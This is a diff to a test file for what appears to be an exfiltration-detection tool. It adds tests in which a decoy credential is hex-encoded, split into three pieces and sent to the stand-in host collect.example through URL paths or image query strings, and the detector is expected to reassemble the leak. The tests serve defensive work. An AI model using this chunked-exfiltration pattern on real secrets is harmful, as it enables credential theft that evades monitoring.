@@ -115,10 +115,35 @@ test.each([
   ['203.0.113.7', 'SYSLOG=203.0.113.7', ['203.0.113.7 configuration']],
   ['192.168.1.40', '', []],
   ['22.18.0.9', '', []],
-])('who opens a flow to %s, with the settings %j, has told whom he listens to', async (address, settings, told) => {
-  const observer = createTraceObserver({ project: '/p', phaseAt: () => 'start' });
-  observer.troubles.truncated = true;
-  observer.drafts.push({ kind: 'connect', pid: 7, address, port: 4443, time: 1, phase: 'start' });
-  const { value: drafts } = await gather({ ...witnessesOf(observer), sink: [] }, [], settings);
-  expect(drafts.flatMap((one) => (one.kind === 'recipient' ? [`${one.value} ${one.explained}`] : []))).toEqual(told);
+  ['8.8.8.8', '', [], 53],
+])(
+  'who opens a flow to %s, with the settings %j, has told whom he listens to',
+  async (address, settings, told, port = 4443) => {
+    const observer = createTraceObserver({ project: '/p', phaseAt: () => 'start' });
+    observer.troubles.truncated = true;
+    observer.drafts.push({ kind: 'connect', pid: 7, address, port, time: 1, phase: 'start' });
+    const { value: drafts } = await gather({ ...witnessesOf(observer), sink: [] }, [], settings);
+    expect(drafts.flatMap((one) => (one.kind === 'recipient' ? [`${one.value} ${one.explained}`] : []))).toEqual(told);
+  },
+);
+
+describe('a credential in pieces', () => {
+  const hex = Buffer.from(key.value).toString('hex');
+  const body = { bytes: 0, sha256: '', data: Buffer.alloc(0) };
+  const asked = (url: string, time: number): SinkEvent => ({
+    ...{ kind: 'http', method: 'GET', url, host: 'collect.example', address: '198.18.0.9', port: 443 },
+    ...{ headers: {}, body, time },
+  });
+
+  test.each([
+    ['at the end of addresses', (piece: string, i: number) => `https://collect.example/s/${i}/${piece}`],
+    ['in what is asked for', (piece: string, i: number) => `https://collect.example/img${i}.png?d=${piece}`],
+  ])('%s is put together', async (_name, urlOf) => {
+    const observer = createTraceObserver({ project: '/p', phaseAt: () => 'start' });
+    const pieces = [hex.slice(0, 16), hex.slice(16, 32), hex.slice(32)];
+    const sink = pieces.map((piece, i) => asked(urlOf(piece, i), i));
+    const { value: drafts } = await gather({ ...witnessesOf(observer), sink }, [{ ...key, asked: false }], '');
+    const leaks = drafts.flatMap((one) => (one.kind === 'decoy' ? [`${one.place} ${one.where}`] : []));
+    expect(leaks).toEqual([`${key.place} HTTP 3 requests to collect.example`]);
+  });
 });
